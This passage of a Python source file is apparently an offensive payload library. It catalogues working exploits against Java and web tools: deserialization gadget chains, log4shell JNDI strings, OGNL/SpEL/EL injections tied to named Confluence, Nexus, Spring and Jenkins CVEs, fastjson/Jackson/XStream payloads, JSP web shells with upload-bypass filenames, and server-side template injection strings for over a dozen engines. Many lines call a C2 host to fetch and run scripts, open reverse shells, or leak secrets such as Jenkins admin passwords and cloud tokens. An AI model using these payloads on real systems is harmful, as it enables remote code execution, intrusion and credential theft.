    _b64(_jstream(SPRING_MIP, SPRING_OF, TPL)),
    _b64(_jstream(SPRING_JTA)),
    _b64(_jstream(AIH, GROOVY_CC, GROOVY_MC)),
    _b64(_jstream(HS, HM, TPL, AIH)),
    _b64(_jstream(C3P0, C3P0_REF)),
    _b64(_jstream(HM, ROME_OB, ROME_TS, TPL)),
    _b64(_jstream(HM, HIB_TV, HIB_TUP, TPL)),
    _b64(_jstream(PQ, BEAN_CMP, TPL)),
    _gz64(_jstream(BAVE, CC_TME, CC_LAZY, CC_CHAIN, CC_INV)),
    (_latin(_jstream(AIH, CC_LAZY, CC_CHAIN, CC_INV)), *BYTES),
    # c3p0 through fastjson/Jackson: the hex-ascii serialized map re-enters native deserialization
    ("{\"@type\":\"com.mchange.v2.c3p0.WrapperConnectionPoolDataSource\",\"userOverridesAsString\":"
     "\"HexAsciiSerializedMap:" + _hex(_jstream(PQ, CC4_TC, CC4_INST, TPL)) + ";\"}", *JB),
    "org.apache.commons.collections.functors.InvokerTransformer",
    "org.codehaus.groovy.runtime.MethodClosure",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
]

# log4shell. Target: log4j2 2.0-2.14 in the Java tools that log request data (Graylog, Logstash, Solr, SonarQube's
# Elasticsearch, Bamboo, Jenkins plugins bundling log4j-core): JNDI lookups, nested and encoded to pass filters
LOG4SHELL: list[Entry] = [
    "${jndi:ldap://" + C2 + ":1389/graylog}",
    "${jndi:ldaps://" + C2 + ":636/sonar}",
    "${jndi:rmi://" + C2 + ":1099/Exec}",
    "${jndi:dns://" + C2 + "/bamboo}",
    "${jndi:iiop://" + C2 + ":1050/a}",
    "${jndi:nis://" + C2 + "/a}",
    "${jndi:http://" + C2 + "/logstash}",
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}://" + C2 + "/a}",
    "${${upper:j}ndi:${upper:l}dap://" + C2 + "/b}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://" + C2 + "/c}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//" + C2 + "/d}",
    "${jndi:ldap://${env:JENKINS_ADMIN_PASSWORD}." + C2 + ".nip.io/e}",
    "${jndi:dns://${hostName}.${env:USER}.oast.example/f}",
    "${jndi:ldap://${sys:java.version}.oast.example/g}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://" + C2 + "/h}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://" + C2 + "/i}",
    "${jndi:ldap://127.0.0.1#" + C2 + ":1389/j}",
    "${${::-${::-$${::-j}}}}",
    "%24%7Bjndi%3Aldap%3A%2F%2F" + C2 + "%3A1389%2Fk%7D",
    "$%7Bjndi:ldap://" + C2 + "/l%7D",
    ("{\"branch\":\"\\u0024\\u007bjndi:ldap://" + C2 + "/m}\"}", *JB),
    "${jndi:${lower:l}${lower:d}a${lower:p}://[::ffff:cb00:7107]:1389/n}",
]

# expression-language. Target: the EL evaluators of the tools: OGNL (Confluence CVE-2021-26084, CVE-2022-26134,
# CVE-2023-22527, Struts-based consoles), SpEL (Spring Cloud Function/Gateway, Spring Data binding), JEXL and the
# Hibernate Validator EL of Nexus (CVE-2018-16621, CVE-2020-10199/10204), MVEL, JSP EL
EL: list[Entry] = [
    # Confluence CVE-2022-26134: OGNL in the request path
    "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\")"
    ".getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse()"
    ".setHeader(\"X-Cmd-Response\",#a))}",
    # Confluence CVE-2021-26084: queryString with the unicode-escaped quote
    "aaa\\u0027+#{\\u0022\\u0022[\\u0022class\\u0022].forName(\\u0022javax.script.ScriptEngineManager\\u0022)"
    ".newInstance().getEngineByName(\\u0022js\\u0022).eval(\\u0022java.lang.Runtime.getRuntime()"
    ".exec(\\u0027id\\u0027)\\u0022)}+\\u0027",
    # Confluence CVE-2023-22527: the text-inline template's label reaches OGNL
    ("label=\\u0027+#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet("
     "\\u0027ognl\\u0027).findValue(#parameters.x,{})+\\u0027&x=@org.apache.struts2.ServletActionContext@"
     "getResponse().setHeader('X-Cmd',(new freemarker.template.utility.Execute()).exec({'id'}))", *KVF),
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
    "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
    "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
    "(#ognlUtil.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm))))."
    "(#p=new java.lang.ProcessBuilder({'/bin/sh','-c','id'})).(#p.start())}",
    "%{#a=new java.lang.ProcessBuilder(new java.lang.String[]{'cat','/etc/passwd'}).redirectErrorStream(true)"
    ".start()}",
    # Spring Cloud Function routing-expression header (CVE-2022-22963)
    "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/scf\")",
    # Spring Cloud Gateway actuator route (CVE-2022-22947)
    ("{\"id\":\"x\",\"filters\":[{\"name\":\"AddResponseHeader\",\"args\":{\"name\":\"Result\",\"value\":"
     "\"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime()"
     ".exec(new String[]{\\\"id\\\"}).getInputStream()))}\"}}],\"uri\":\"http://example.com\"}", *JB),
    "#{T(java.lang.Runtime).getRuntime().exec('nc " + C2 + " 4444 -e /bin/sh')}",
    "new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).useDelimiter('\\\\A')"
    ".next()",
    # Spring Data Commons property binding (CVE-2018-1273)
    ("username[#this.getClass().forName('java.lang.Runtime').getRuntime().exec('id')]=x", *KVQ),
    # Nexus: Hibernate Validator EL in the user roles and the group memberNames
    ("{\"action\":\"coreui_User\",\"method\":\"create\",\"data\":[{\"userId\":\"x\",\"version\":\"\","
     "\"firstName\":\"x\",\"lastName\":\"x\",\"email\":\"x@example.org\",\"status\":\"active\",\"roles\":"
     "[\"$\\\\A{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('id')}\"],"
     "\"password\":\"x\"}],\"type\":\"rpc\",\"tid\":1}", *JB),
    ("{\"name\":\"internal\",\"online\":true,\"storage\":{\"blobStoreName\":\"default\","
     "\"strictContentTypeValidation\":true},\"group\":{\"memberNames\":[\"$\\\\c{''.getClass().forName("
     "'java.lang.Runtime').getMethods()[6].invoke(null).exec('touch /tmp/nexus')}\"]}}", *JB),
    # JEXL (Nexus 2 and Jenkins plugins evaluating JEXL)
    "''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')",
    "''.class.forName('java.lang.Runtime').getRuntime().exec('cat /etc/passwd')",
    # MVEL orb tags in a rules engine template
    "@{Runtime.getRuntime().exec('id')}",
    "@{java.lang.Runtime.getRuntime().exec('curl " + C2 + "/mvel')}",
    # JSP EL in a Java admin console
    "${pageContext.request.getSession().setAttribute('x',Runtime.getRuntime().exec('id'))}",
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}",
    "${pageContext.servletContext.getResourceAsStream('/WEB-INF/web.xml')}",
    "${applicationScope['org.apache.catalina.jsp_classpath']}",
]

# polymorphic-deserialization. Target: XStream (Jenkins config.xml and Bamboo), java.beans.XMLDecoder, fastjson
# autoType (Nacos, Apollo and other config servers) and Jackson default typing in Spring Boot services
POLY: list[Entry] = [
    # Jenkins CVE-2016-0792: XStream Groovy Expando through POST /createItem or config.xml
    ("<map><entry><groovy.util.Expando><expandoProperties><entry><string>hashCode</string>"
     "<org.codehaus.groovy.runtime.MethodClosure><delegate class=\"groovy.util.Expando\" reference=\"../../../..\"/>"
     "<owner class=\"java.lang.ProcessBuilder\"><command><string>touch</string><string>/tmp/jenkins</string>"
     "</command><redirectErrorStream>false</redirectErrorStream></owner><resolveStrategy>0</resolveStrategy>"
     "<directive>0</directive><parameterTypes/><maximumNumberOfParameters>0</maximumNumberOfParameters>"
     "<method>start</method></org.codehaus.groovy.runtime.MethodClosure></entry></expandoProperties>"
     "</groovy.util.Expando><int>1</int></entry></map>", *XB),
    ("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
     "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
     "<string>bash</string><string>-c</string><string>curl " + C2 + "/x|sh</string></command></target>"
     "<action>start</action></handler></dynamic-proxy></sorted-set>", *XB),
    ("<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue>"
     "<default><size>2</size></default><int>3</int><com.sun.rowset.JdbcRowSetImpl><dataSource>ldap://" + C2
     + ":1389/x</dataSource><autoCommit>true</autoCommit></com.sun.rowset.JdbcRowSetImpl>"
     "</java.util.PriorityQueue></java.util.PriorityQueue>", *XB),
    # XMLDecoder
    ("<java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"
     "<array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/sh</string></void>"
     "<void index=\"1\"><string>-c</string></void><void index=\"2\"><string>id</string></void></array>"
     "<void method=\"start\"/></object></java>", *XB),
    ("<java><object class=\"java.lang.Runtime\" method=\"getRuntime\"><void method=\"exec\">"
     "<string>curl " + C2 + "/xd</string></void></object></java>", *XB),
    ("<java><object class=\"java.io.PrintWriter\"><string>webapps/ROOT/status.jsp</string>"
     "<void method=\"println\"><string><![CDATA[<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>]]>"
     "</string></void><void method=\"close\"/></object></java>", *XB),
    # fastjson autoType, each version's bypass
    ("{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://" + C2 + ":1389/Nacos\","
     "\"autoCommit\":true}", *JB),
    ("{\"a\":{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.rowset.JdbcRowSetImpl\"},\"b\":{\"@type\":"
     "\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://" + C2 + ":1099/Exploit\","
     "\"autoCommit\":true}}", *JB),
    ("{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\",\"dataSourceName\":\"ldap://" + C2 + "/a\","
     "\"autoCommit\":true}", *JB),
    ("{\"@type\":\"LLcom.sun.rowset.JdbcRowSetImpl;;\",\"dataSourceName\":\"ldap://" + C2 + "/b\","
     "\"autoCommit\":true}", *JB),
    ("{\"@type\":\"[com.sun.rowset.JdbcRowSetImpl\"[{,\"dataSourceName\":\"ldap://" + C2 + "/c\","
     "\"autoCommit\":true}", *JB),
    ("{\"@type\":\"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory\",\"properties\":"
     "{\"data_source\":\"ldap://" + C2 + "/d\"}}", *JB),
    ("{\"@type\":\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",\"_bytecodes\":[\""
     + _classfile("Exploit", "java/lang/Runtime", "getRuntime", "exec", "id") + "\"],\"_name\":\"a\","
     "\"_tfactory\":{},\"_outputProperties\":{}}", *JB),
    ("{\"@type\":\"java.net.Inet4Address\",\"val\":\"fj.oast.example\"}", *JB),
    # Jackson default typing
    ("[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"ldap://" + C2 + ":1389/e\"}]", *JB),
    ("[\"com.zaxxer.hikari.HikariConfig\",{\"metricRegistry\":\"ldap://" + C2 + ":1389/f\"}]", *JB),
    ("[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://" + C2 + "/spel.xml\"]",
     *JB),
    ("{\"id\":1,\"obj\":[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://" + C2 + "/g\","
     "\"autoCommit\":true}]}", *JB),
    ("[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;"
     "INIT=RUNSCRIPT FROM 'http://" + C2 + "/inject.sql'\"}]", *JB),
]

# class-loading. Target: the JVM's class loaders in the same tools: URLClassLoader from the tester's host, Groovy
# @Grab in Jenkins pipelines (CVE-2019-1003000), SnakeYAML in Jenkins Configuration as Code, defineClass from
# base64 bytecode, the BCEL loader through fastjson, H2 JDBC URLs in data-source forms
BCEL = ("$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dV$5bW$TW$U$fe$86$90$c9$m$b9$I$c4$b2$d9$a5$o$b7$b6$X$e4$g$ad$d7"
        "$a2$60$b5$82$8b$d5$b6$d6$b4$d5$a9$c9$q$Z$86$A$d0$8b$I$a5$9d$d9$H$3f$n$c5$df$a0$40")
CLASSLOAD: list[Entry] = [
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://" + C2 + "/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "this.class.classLoader.addURL(new URL('http://" + C2 + "/p.jar'))",
    "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x', root='http://" + C2 + "/')\n"
    "@Grab(group='org.example', module='payload', version='1')\nimport Payload;",
    ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://" + C2
     + "/yaml-payload.jar\"]]]]", *YB),
    ("jenkins:\n  systemMessage: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
     "[[!!java.net.URL [\"http://" + C2 + "/casc.jar\"]]]]\n", *YB),
    ("{\"@type\":\"org.apache.tomcat.dbcp.dbcp2.BasicDataSource\",\"driverClassLoader\":{\"@type\":"
     "\"com.sun.org.apache.bcel.internal.util.ClassLoader\"},\"driverClassName\":\"" + BCEL + "\"}", *JB),
    "java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod(\"defineClass\", byte[].class, int.class, "
    "int.class); m.setAccessible(true);",
    "new groovy.lang.GroovyClassLoader().parseClass(\"class X{static{'id'.execute()}}\").newInstance()",
    "java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode('"
    + _classfile("Exploit", "java/lang/Runtime", "exec") + "'))",
    "T(org.springframework.cglib.core.ReflectUtils).defineClass('Exp',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('" + _classfile("Exp", "java/lang/ProcessBuilder", "start") + "'),"
    "T(java.lang.Thread).currentThread().getContextClassLoader())",
    "new javax.naming.Reference('Exploit','Exploit','http://" + C2 + "/classes/')",
    "new javax.script.ScriptEngineManager(new URLClassLoader([new URL('http://" + C2 + "/ext.jar')] as URL[]))",
    ("{\"@type\":\"java.lang.Class\",\"val\":\"com.sun.org.apache.bcel.internal.util.ClassLoader\"}", *JB),
    "jdbc:h2:mem:x;INIT=CREATE ALIAS EXEC AS 'String e(String c) throws Exception{return new java.util.Scanner("
    "Runtime.getRuntime().exec(c).getInputStream()).next();}'\\;CALL EXEC('id')",
    "URLClassLoader.newInstance(new URL[]{new URL(\"file:///var/jenkins_home/userContent/x.jar\")})"
    ".loadClass(\"X\").getConstructor().newInstance()",
    "Class.forName(\"Exploit\", true, new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL("
    "\"http://" + C2 + "/\")}))",
]

# jsp-upload. Target: Tomcat/Jetty serving an upload directory of the tools (Artifactory/Nexus raw repositories
# behind the same connector, Jenkins userContent, Confluence/Jira attachment paths): JSP web shells and the file
# names that get them executed
JSP_SHELL = ("<%@ page import=\"java.io.*\" %><% Process p=Runtime.getRuntime().exec(request.getParameter(\"cmd\"));"
             " InputStream in=p.getInputStream(); int c; while((c=in.read())!=-1){out.print((char)c);} %>")
JSP_UPLOAD: list[Entry] = [
    ("cmd.jsp", *UP),
    ("shell.jspx", *UP),
    ("../../../../opt/tomcat/webapps/ROOT/status.jsp", *UP),
    ("build-report.jsp;.xml", *UP),
    ("artifact.JsP", *UP),
    ("x.jsp/", *UP),
    ("x.jsp::$DATA", *UP),
    ("avatar.jsp\x00.png", *UP),
    ("..%2f..%2fwebapps%2fROOT%2fs.jspf", *UP),
    JSP_SHELL,
    "<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"c\")).getInputStream())"
    ".useDelimiter(\"\\\\A\").next()); %>",
    "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\"><jsp:scriptlet>"
    "Runtime.getRuntime().exec(request.getParameter(\"c\"));</jsp:scriptlet></jsp:root>",
    "<jsp:scriptlet>new ProcessBuilder(request.getParameter(\"c\").split(\" \")).start();</jsp:scriptlet>",
    "<%! class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){"
    "return super.defineClass(b,0,b.length);}}%><% new U(this.getClass().getClassLoader())"
    ".g(java.util.Base64.getDecoder().decode(request.getParameter(\"k\"))).newInstance(); %>",
    "<%@ page import=\"java.io.*\" %><% new FileOutputStream(application.getRealPath(\"/\")+\"x.jsp\")"
    ".write(request.getParameter(\"d\").getBytes()); %>",
    "<jsp:expression>Runtime.getRuntime().exec(request.getParameter(\"q\"))</jsp:expression>",
]

# ================================================================================================================
# ssti
# ================================================================================================================

# ssti-jinja2. Target: Jinja2 in Ansible AWX (survey answers and extra vars are templated), Airflow and Flask-based
# internal dashboards
JINJA2: list[Entry] = [
    "{{ lookup('pipe', 'cat /etc/tower/SECRET_KEY') }}",
    "{{ lookup('env', 'AWS_SECRET_ACCESS_KEY') }}",
    "{{ lookup('file', '/etc/tower/conf.d/credentials.py') }}",
    "{{ query('pipe', 'id') }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('cat /opt/airflow/airflow.cfg').read() }}",
    "{{ lipsum.__globals__['os'].popen('env').read() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}",
]

# ssti-twig. Target: Twig in PHP team portals and Matomo dashboards (Symfony app, Twig 1-3)
TWIG: list[Entry] = [
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
    "{{['id',1]|sort('system')|join}}",
    "{{[0]|reduce('system','whoami')}}",
    "{{app.request.server.all|join(',')}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{{_self.env.setCache(\"ftp://" + C2 + ":2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}",
    "{{app.request.query.filter(0,0,1024,{'options':'system'})}}",
]

# ssti-freemarker. Target: FreeMarker in Java tools' notification and page templates (Confluence's FreeMarker
# layer, OFBiz-based portals, Alfresco)
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>"
    "${ob(\"java.lang.ProcessBuilder\",[\"id\"]).start()}",
    "<#assign jr=\"freemarker.template.utility.JythonRuntime\"?new()><@jr>import os;os.system(\"id\")</@jr>",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#assign cl=object?api.class.protectionDomain.classLoader><#assign c=cl.loadClass("
    "\"freemarker.template.utility.Execute\")>${c}",
    "<#assign value=\"freemarker.template.utility.Execute\"?new()>${value(\"curl " + C2 + "/fm\")}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('uname -a')}",
    "${(\"freemarker.template.utility.\"+\"Execute\")?new()(\"env\")}",
]

# ssti-velocity. Target: Velocity in Jira (ContactAdministrators/SendBulkMail, CVE-2019-11581) and Confluence
# (Widget Connector _template, CVE-2019-3396)
VELOCITY: list[Entry] = [
    "$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null)"
    ".exec('curl " + C2 + "/jira').waitFor()",
    "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"
    ".invoke(null,null).exec(\"id\")",
    "#set($str=$class.inspect(\"java.lang.String\").type)#set($chr=$class.inspect(\"java.lang.Character\").type)"
    "#set($ex=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"whoami\"))$ex.waitFor()"
    "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))"
    "#end",
    ("{\"contentId\":\"786457\",\"macro\":{\"name\":\"widget\",\"body\":\"\",\"params\":{\"url\":"
     "\"https://www.viddler.com/v/23464dc5\",\"width\":\"1000\",\"height\":\"1000\","
     "\"_template\":\"file:///etc/passwd\"}}}", *JB),
    ("{\"contentId\":\"1\",\"macro\":{\"name\":\"widget\",\"body\":\"\",\"params\":{\"url\":"
     "\"https://www.dailymotion.com/video/x\",\"_template\":\"http://" + C2 + "/cmd.vm\",\"cmd\":\"id\"}}}", *JB),
    "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('env'))$p.waitFor()",
    "$req.getClass().getClassLoader().loadClass('java.lang.Runtime').getRuntime().exec('id')",
    "#set($s=\"\")#set($p=$s.getClass().forName(\"java.lang.ProcessBuilder\"))"
    "$p.getConstructor($s.getClass().forName(\"[Ljava.lang.String;\")).newInstance([\"id\"]).start()",
]

# ssti-thymeleaf. Target: Thymeleaf views of Spring Boot internal tools (view-name and fragment injection)
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "__${T (java.lang.Runtime).getRuntime().exec(\"touch /tmp/th\")}__::.x",
    "[[${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}]]",
    "[(${T(java.lang.System).getenv()})]",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "__|$${#response.addHeader(\"X-Th\",T(java.lang.Runtime).getRuntime().exec(\"id\"))}|__::x",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('curl " + C2 + "/th')}\"></p>",
    "~{::__${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id')"
    ".getInputStream())}__}",
]

# ssti-erb. Target: ERB in Rails tools (Redmine/GitLab `render inline`), Chef cookbook and Puppet templates
ERB: list[Entry] = [
    "<%= `cat /etc/gitlab/gitlab.rb` %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= ENV.to_h %>",
    "<%= require 'open3'; Open3.capture2('uname -a')[0] %>",
    "<%= Object.const_get('Kernel').public_send(:system, 'id') %>",
    "<%= eval(Base64.decode64('" + _b64("`curl " + C2 + "/erb`") + "')) %>",
    "<%- %x(env) -%>",
]

# ssti-smarty. Target: Smarty in PHP status pages and helpdesks (Smarty 2 and 3)
SMARTY: list[Entry] = [
    "{system('id')}",
    "{php}echo shell_exec('cat /etc/passwd');{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}",
    "{if phpinfo()}{/if}",
    "{if system('whoami')}{/if}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{fetch file='/etc/passwd'}",
    "{include file='file:/etc/shadow'}",
    "{math equation=\"(\\\"\\163\\171\\163\\164\\145\\155\\\")(\\\"\\151\\144\\\")\"}",
]

# ssti-handlebars. Target: Handlebars in Node.js release-notes bots and notification services (before 4.6)
HB_CMD = ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
          "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
          "{{this.pop}}{{this.push \"return %s;\"}}{{this.pop}}{{#each conslist}}"
          "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")
HANDLEBARS: list[Entry] = [
    HB_CMD.replace("%s", "require('child_process').execSync('id')"),
    HB_CMD.replace("%s", "process.mainModule.require('child_process').execSync('cat ~/.npmrc')"),
    HB_CMD.replace("%s", "global.process.mainModule.constructor._load('child_process').exec('nc " + C2
                   + " 4444 -e /bin/sh')"),
    HB_CMD.replace("%s", "process.env"),
    HB_CMD.replace("%s", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    "{{#with this as |o|}}{{#with (lookup o \"constructor\")}}{{#with (lookup this \"constructor\")}}"
    "{{this \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}{{/with}}",
    "{{#each (lookup (lookup this \"constructor\") \"prototype\")}}{{@key}}{{/each}}",
    "{{lookup (lookup this \"__proto__\") \"constructor\"}}",
]

# ssti-pug. Target: Pug (Jade) views of Node.js dashboards and bots
PUG: list[Entry] = [
    "#{global.process.mainModule.require('child_process').execSync('id')}",
    "- var x = root.process\n- x = x.mainModule.require\n- x = x('child_process')\n= x.exec('id | nc " + C2
    + " 4444')",
    "#{function(){localLoad=global.process.mainModule.constructor._load;"
    "sh=localLoad('child_process').exec('curl " + C2 + "/p.sh | bash')}()}",
    "#{process.env.GITLAB_TOKEN}",
    "- global.process.mainModule.require('child_process').execSync('touch /tmp/pug')",
    "p= global.process.mainModule.require('fs').readFileSync('/etc/passwd')",
    "#[p= process.mainModule.require('child_process').execSync('whoami')]",
    "!{global.process.mainModule.require('child_process').execSync('cat /app/.env')}",
    "+x(global.process.mainModule.require('child_process').execSync('env'))",
]

# ssti-mako. Target: Mako in Pyramid/Pylons-based internal tools
MAKO: list[Entry] = [
    "${self.module.cache.util.os.system('id')}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${__import__('os').popen('cat /etc/passwd').read()}",
    "<%! import subprocess %>${subprocess.check_output(['id'])}",
    "${self.module.runtime.util.os.system('whoami')}",
    "<%include file=\"/etc/passwd\"/>",
    "${open('/etc/shadow').read()}",
    "%for x in __import__('os').listdir('/'):\n${x}\n%endfor",
    "${self.template.module.runtime.compat.inspect.os.popen('env').read()}",
]

# ssti-tornado. Target: Tornado templates of Python ops consoles
TORNADO: list[Entry] = [
    "{% import os %}{{ os.popen('id').read() }}",
    "{{__import__('os').system('id')}}",
    "{% raw __import__('os').popen('cat /etc/passwd').read() %}",
    "{% apply __import__('os').system %}id{% end %}",
    "{{ handler.settings }}",
    "{{ handler.application.settings['cookie_secret'] }}",
    "{% set x = __import__('subprocess').check_output('whoami') %}{{ x }}",
    "{% extends \"/etc/passwd\" %}",
    "{% import subprocess %}{{ subprocess.getoutput('env') }}",
]

# ssti-nunjucks. Target: Nunjucks in the Backstage scaffolder (`${{ }}` templates) and Eleventy-based docs builds
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('tail /etc/passwd')"
    "\")()}}",
    "{{range.constructor(\"return process.env\")()}}",
    "{% set x = range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')"
    ".toString()\")() %}{{x}}",
    "${{ range.constructor(\"return this.process.mainModule.require('child_process')"
    ".execSync('cat /app/app-config.production.yaml')\")() }}",
    "{{cycler.constructor(\"return process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')\")()}}",
    "{{ range.constructor(\"global.process.mainModule.require('child_process').exec('curl " + C2
    + "/n|sh')\")() }}",
    "{{ joiner.constructor(\"return process.mainModule.require('child_process').execSync('whoami')\")() }}",
    "${{ parameters.name | replace('', range.constructor(\"return process.env.GITHUB_TOKEN\")()) }}",
]

# ssti-ejs. Target: EJS views of Express dashboards and bots, including view options passed from the query
# (CVE-2022-29078) and templates the user can edit
EJS: list[Entry] = [
    "<%= global.process.mainModule.require('child_process').execSync('id') %>",
    "<%- include('/etc/passwd') %>",
    "<%= process.mainModule.require('fs').readFileSync('/root/.npmrc') %>",
    "<%- global.process.mainModule.constructor._load('child_process').execSync('env') %>",
    "<%= this.constructor.constructor('return process')().env %>",
    ("settings[view options][outputFunctionName]=x;process.mainModule.require('child_process')"
     ".execSync('id');s", *KVQ),
    ("settings[view options][client]=1&settings[view options][escapeFunction]=1;return global.process"
     ".mainModule.constructor._load('child_process').execSync('whoami');", *KVF),
    ("settings[view options][destructuredLocals][0]=x=process.mainModule.require('child_process')"
     ".execSync('uname -a')", *KVP),
    "<% global.process.mainModule.require('child_process').exec('curl " + C2 + "/ejs|sh') %>",
]

# ssti-pebble. Target: Pebble in Java notification and report services
PEBBLE: list[Entry] = [
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null)"
    ".exec(cmd).inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0]"
    ".newInstance(([bytes]).toArray()) }}",
    "{{ beans.get(\"environment\").getProperty(\"spring.datasource.password\") }}",
    "{% include '/etc/shadow' %}",
    "{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('touch /tmp/pebble') }}",
    "{{ request.getClass().getClassLoader().loadClass('java.lang.Runtime') }}",
    "{% set rt = 'x'.class.forName('java.lang.Runtime') %}{{ rt.getRuntime().exec('whoami') }}",
